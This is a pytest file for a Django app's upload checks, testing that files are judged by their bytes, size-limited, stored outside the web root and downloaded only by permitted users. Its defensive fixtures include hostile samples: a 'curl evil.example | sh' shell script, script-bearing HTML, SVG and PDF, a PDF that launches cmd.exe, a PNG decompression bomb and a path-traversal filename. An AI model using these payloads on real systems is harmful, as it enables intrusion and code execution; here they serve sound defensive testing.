"""Uploads are accepted by what their bytes are, within a size limit, and leave only as permission-checked attachments."""
import io
import struct
import zlib

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import Resolver404, resolve
from PIL import Image

from apps.audit.models import AuditEvent
from apps.authorizations import documents
from apps.authorizations.documents import attach_document, download_for
from apps.authorizations.models import Document

from ..factories import make_application
from ..pdf_corpus import CLEAN as CLEAN_PDF

pytestmark = pytest.mark.django_db
PDF = CLEAN_PDF  # a minimal PDF the parser reads as one page


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def image_bytes(fmt: str, size=(2, 2)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, "green").save(buffer, fmt)
    return buffer.getvalue()


def png_declaring(width: int, height: int) -> bytes:
    """A PNG whose header claims a huge canvas over a few bytes of data: a decompression bomb's shape."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = lambda kind, data: struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))  # noqa: E731
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\x00" * 1024)) + chunk(b"IEND", b"")


REFUSED = {
    "a shell script renamed .pdf": ("report.pdf", b"#!/bin/sh\ncurl evil.example | sh\n", "Only PDF, PNG and JPEG"),
    "an HTML page renamed .pdf": ("letter.pdf", b"<html><script>alert(1)</script></html>", "Only PDF, PNG and JPEG"),
    "a Windows program renamed .png": ("map.png", b"MZ\x90\x00" + b"\x00" * 200, "Only PDF, PNG and JPEG"),
    "a zip archive renamed .jpg": ("photo.jpg", b"PK\x03\x04" + b"\x00" * 200, "Only PDF, PNG and JPEG"),
    "an SVG (can carry script)": ("map.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "Only PDF, PNG and JPEG"),
    "a zip-bomb image": ("bomb.png", png_declaring(50_000, 50_000), "pixels"),
    "a large-canvas image under Pillow's own limit": ("wide.png", png_declaring(8_000, 6_000), "pixels; at most"),
    "a damaged PNG": ("broken.png", b"\x89PNG\r\n\x1a\n" + b"garbage" * 20, "damaged or not what it claims"),
    "a PDF carrying JavaScript": ("form.pdf", b"%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF\n", "scripts, launch actions"),
    "a PDF that launches a program": ("run.pdf", b"%PDF-1.7\n1 0 obj << /S /Launch /F (cmd.exe) >> endobj\n%%EOF\n", "scripts, launch actions"),
    "a truncated PDF": ("cut.pdf", b"%PDF-1.4\n1 0 obj <<>> endobj\n", "damaged or incomplete"),
    "an empty file": ("empty.pdf", b"", "The file is empty"),
}


@pytest.mark.parametrize("case", sorted(REFUSED))
def test_a_file_that_is_not_what_it_claims_is_refused_and_nothing_is_stored(case, proponent, media_root):
    name, content, message = REFUSED[case]
    application = make_application(proponent)
    events_before = AuditEvent.objects.count()
    with pytest.raises(ValidationError) as refused:
        attach_document(application, acting_user=proponent, upload=SimpleUploadedFile(name, content))
    assert message in str(refused.value.message_dict["file"])
    assert not Document.objects.exists()
    assert not any(media_root.rglob("*.*")) if media_root.exists() else True
    assert AuditEvent.objects.count() == events_before


def test_an_oversized_file_is_refused_before_its_content_is_read(proponent, monkeypatch):
    monkeypatch.setattr(documents, "MAX_DOCUMENT_BYTES", 1024)
    application = make_application(proponent)
    with pytest.raises(ValidationError, match="larger than"):
        attach_document(application, acting_user=proponent, upload=SimpleUploadedFile("big.pdf", PDF + b"0" * 2048))
    assert not Document.objects.exists()


@pytest.mark.parametrize("name,content,content_type", [
    ("plan.pdf", PDF, "application/pdf"),
    ("map.png", image_bytes("PNG"), "image/png"),
    ("site.JPG", image_bytes("JPEG"), "image/jpeg"),
    ("no-extension", PDF, "application/pdf"),  # the bytes decide, not the name
])
def test_a_real_pdf_png_or_jpeg_is_stored_under_a_random_name_outside_the_web_root(name, content, content_type, proponent, media_root):
    application = make_application(proponent)
    document = attach_document(application, acting_user=proponent, upload=SimpleUploadedFile(name, content))
    assert document.content_type == content_type
    stored = document.file.name.rsplit("/", 1)[-1]
    assert name.split(".")[0] not in stored and len(stored.split(".")[0]) == 32
    assert document.file.path.startswith(str(media_root))
    assert AuditEvent.objects.filter(event="document.attached", subject_id=application.reference).exists()


def test_no_url_serves_the_upload_directory(proponent):
    application = make_application(proponent)
    document = attach_document(application, acting_user=proponent, upload=SimpleUploadedFile("plan.pdf", PDF))
    with pytest.raises(Resolver404):
        resolve(f"/media/{document.file.name}")
    from django.conf import settings

    assert not str(settings.MEDIA_ROOT).startswith(str(settings.STATIC_ROOT))


def test_the_download_is_an_attachment_with_its_checked_type_and_a_safe_name(proponent):
    application = make_application(proponent)
    document = attach_document(application, acting_user=proponent,
                               upload=SimpleUploadedFile('../../etc/"passwd"<script>.pdf', PDF))
    response = download_for(user=proponent, document=document)
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'attachment; filename="passwd_script.pdf"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert b"".join(response.streaming_content) == PDF


def test_only_those_who_may_see_the_application_may_download(proponent, sabah_approver, sarawak_approver):
    application = make_application(proponent)
    document = attach_document(application, acting_user=proponent, upload=SimpleUploadedFile("plan.pdf", PDF))
    assert download_for(user=proponent, document=document).status_code == 200
    with pytest.raises(PermissionDenied):
        download_for(user=sabah_approver, document=document)  # a draft is the proponent's alone
    from apps.authorizations import services

    services.submit_application(application, acting_user=proponent)
    assert download_for(user=sabah_approver, document=Document.objects.get(pk=document.pk)).status_code == 200
    with pytest.raises(PermissionDenied):
        download_for(user=sarawak_approver, document=Document.objects.get(pk=document.pk))
